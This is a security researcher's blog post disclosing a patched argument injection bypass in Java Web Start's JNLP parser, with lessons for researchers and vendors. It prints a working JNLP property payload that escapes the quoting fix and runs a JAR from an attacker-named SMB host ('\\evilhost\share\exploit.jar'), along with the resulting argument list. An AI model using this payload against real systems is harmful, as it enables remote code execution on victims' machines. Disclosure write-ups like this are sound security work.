And For My Next Trick…

One of the examples given in the “Attacking Application Logic” chapter of The Web Application Hacker’s Handbook is entitled “Escaping from Escaping”. The prelude to the attack is that the developer has to pass user-supplied input as a parameter to an OS command. Realising that meta-characters in the user data are dangerous, the dev sets out to escape them. The flaw is quite simply that the dev forgets to escape the escape character, thus the attacker canescape it in order to pass dangerous characters.

Today I’ll show a real world example of this attack, a bug I reported to Sun that was recently patched in Sun Alert 233323. Firstly though, some background. Sun released Java Web Start in 2001 as means of one-click deployment of Java applications from the browser (the Java equivalent of .NET’s ClickOnce technology). AsWeb Start applications run outside the browser, they can easily be made available to run offline. The security model enforced on applets still applies to Web Start – unsigned applications cannot interact with the filesystem and access to remote content is subject to the same origin policy.

The architecture of Web Start is interesting. Applications are installed and launched via XML-based JNLP configuration files. JNLP files open with javaws.exe, a native application, whose purpose is to parse the JNLP file and launch javaw.exe (i.e. invoke the JVM) with the correct class.

The JNLP parser has suffered a slew of buffer overflows which I may talk about in a future post. Its also had an argument injection vulnerability, found by Jouko Pynnonen. This could be triggered via the property tag of the JNLP file, which allows certain JVM properties to be set. These properties are passed on the command line to the javaw.exe process. Jouko gave the following example:

<property name="sun.java2d.noddraw" value="true HELLO" />

The property “sun.java2d.noddraw” is considered secure by Web Start (there’s a list of the permitted properties in the spec); ultimately the startup command for the application became something like:javaw.exe -Dsun.java2d.noddraw=true HELLO (other args) your.application

This issue was fixed way back in September 2004 by quoting the input and escaping the double quote character. But guess what wasn’t escaped? By inserting an addition “/” into the argument, we can gobble up the escape character allowing us to insert an additional double quote, and thereby pass arbitrary arguments as before.

This vulnerability can be exploited in several ways. Perhaps the easiest is to create an SMB share with null credentials containing the payload Jar file, then reference it as follows in the JNLP:

<property name='http.agent' value='\" -jar \\evilhost\share\exploit.jar \"'/>

The resulting command line effectively boils down to: java -jar \\evilhost\share\exploit.jar with the rest of the line passed as arguments (which our payload can just ignore):

Arg 0: \
Arg 1: -Djnlpx.splashport=4741
Arg 2: -Djnlpx.jvm="C:\Program Files\Java\jre1.6.0_02\bin\javaw.exe"
Arg 3: com.sun.javaws.Main
Arg 4: C:\DOCUME~1\John\LOCALS~1\Temp\javaws114Of course, this technique may not work if outbound SMB is blocked by a personal or corporate firewall (which is pretty likely these days). I will leave the other techniques for exploiting this as an exercise for the reader  [Hint: explore ways of caching various type of content via the Java browser plugin]

So what lessons should we take from this affair?

For security researchers:

  • It’s worth revisiting patches with the mentality that new code = new bugs. I am as guilty as anyone of not doing this – you send a bug off to a vendor, a while later they fix it and ship a patch, by then you’re working on something completely different. History has shown us time and time again it can take more than one attempt to fix a bug (and that other bugs in nearby code may be missed if the code is not scrubbed).For software vendors:

  • When a vulnerability report comes in, understand fully how the attacks work and review your fixes with a critical eye. Fixing code is an iterativeprocess and should be done from both perspectives: defender and attacker (asking yourself at every step of the way, what new avenues of attacks have we just opened up?) For an example of a bug that dragged on way longer than it should have (due to flaws in the fixes) check out the section on the ExtProcsaga in The Database Hacker’s Handbook.

Anyway, this is just one of many Java flaws I will be discussing during my ToorCon talk this weekend. If you’re not going to be there and you’d like a copy of my slides, drop me a note.



*** This is a SecurityBloggers Network syndicated blog from aut disce, aut discede authored by John Heasman. Read the original post at: